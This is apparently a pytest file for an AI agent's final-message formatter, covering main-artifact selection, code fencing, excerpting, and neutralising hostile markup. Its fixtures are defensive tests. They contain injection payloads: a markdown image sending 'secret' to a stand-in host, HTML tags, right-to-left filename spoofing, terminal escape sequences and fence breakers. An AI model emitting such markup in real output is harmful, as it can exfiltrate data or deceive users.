"""The last AI message shows the result itself: the answer and the plan's main artifact."""

from __future__ import annotations

import pytest

from agent.graph.finalize import EXCERPT_CHARS, INLINE_LIMIT, final_message, main_artifact
from agent.vfs.entries import file_entry as _entry
from tests.fakes import step
from tests.markup import CONTROLS, rendered


def file_entry(content: str, status: str = "active"):
    return _entry(content, step=1, status=status)


PLAN = {"steps": [step("S1", "notes.md"), step("S2", "report.md", deps=("S1",))]}


def test_the_main_artifact_is_the_plans_sink_not_its_inputs():
    files = {"notes.md": file_entry("n"), "report.md": file_entry("r")}
    assert main_artifact(PLAN, files) == "report.md"


def test_without_the_sink_the_last_existing_output_is_shown():
    assert main_artifact(PLAN, {"notes.md": file_entry("n")}) == "notes.md"
    assert main_artifact(PLAN, {}) is None
    assert main_artifact(None, {"x.md": file_entry("x")}) is None


def test_of_two_independent_sinks_the_later_step_is_the_main_one():
    plan = {"steps": [step("S1", "a.md"), step("S2", "b.md")]}
    assert main_artifact(plan, {"a.md": file_entry("a"), "b.md": file_entry("b")}) == "b.md"


def test_a_small_text_artifact_is_shown_whole_after_the_answer():
    files = {"report.md": file_entry("# Report\n\nAll good.\n", status="done")}
    text = final_message("Done.", PLAN, files)
    assert text.startswith("Done.\n\n**report.md** (done, ")
    assert text.endswith("```markdown\n# Report\n\nAll good.\n```")


def test_code_is_fenced_with_its_language():
    plan = {"steps": [step("S1", "prime.py")]}
    text = final_message("Done.", plan, {"prime.py": file_entry("def f():\n    pass\n")})
    assert "```python\ndef f():\n    pass\n```" in text


def test_a_large_artifact_is_an_excerpt_with_where_to_get_the_rest():
    body = "x" * (INLINE_LIMIT + 1)
    text = final_message("Done.", PLAN, {"report.md": file_entry(body)})
    assert "x" * EXCERPT_CHARS in text and "x" * (EXCERPT_CHARS + 1) not in text
    assert f"{len(body) - EXCERPT_CHARS} more characters" in text
    assert "deepreflect export" in text


def test_a_binary_or_empty_artifact_is_named_but_not_shown():
    text = final_message("Done.", PLAN, {"report.md": file_entry("a\x00b")})
    assert text.startswith("Done.\n\n**report.md**") and "\x00" not in text
    assert final_message("Done.", PLAN, {}) == "Done."


def test_a_path_that_is_markup_is_shown_as_text_and_its_command_as_code():
    from tests.markup import CONTROLS, assert_plain, rendered

    path = "![x](http:/host.example/a.png)`<b>\u202e.md"
    plan = {"steps": [step("S1", path)]}
    small = final_message("Done.", plan, {path: file_entry("fine")})
    head = small.split("\n\n")[1]
    assert rendered(head)[0] == ["strong_open", "strong_close"], head  # bold, nothing else
    assert_plain(head.split("** (")[0].removeprefix("**"))
    large = final_message("Done.", plan, {path: file_entry("y" * (INLINE_LIMIT + 1))})
    command = large.split("more characters: ")[1]
    kinds, _ = rendered(command)
    assert set(kinds) == {"code_inline"} and not any(c in large for c in CONTROLS), command


HOSTILE_PROSE = (
    "# Findings\n\n![seen](https://host.example/?d=secret)\n<img src=https://host.example/a.png>\n"
    "**passed** [open](http://host.example) www.host.example\n\u202egnp.exe \x1b]8;;http://h\x07"
    " \x9b31m red\n```\nnot the end of the block\n````\n"
)


@pytest.mark.parametrize("path", ["report.md", "notes.txt", "page.html", "README", "m.py"])
def test_an_artifact_is_shown_as_written_and_never_as_live_markup(path):
    plan = {"steps": [step("S1", path)]}
    text = final_message("Done.", plan, {path: file_entry(HOSTILE_PROSE)})
    kinds, _ = rendered(text)
    assert kinds.count("fence") == 1  # the whole artifact is one block, shown as text
    assert not {"image", "link_open", "html_block", "html_inline"} & set(kinds), kinds
    assert not [c for c in CONTROLS if c in text]
    assert "![seen](https://host.example/?d=secret)" in text  # its words are all still there
    assert "not the end of the block" in text
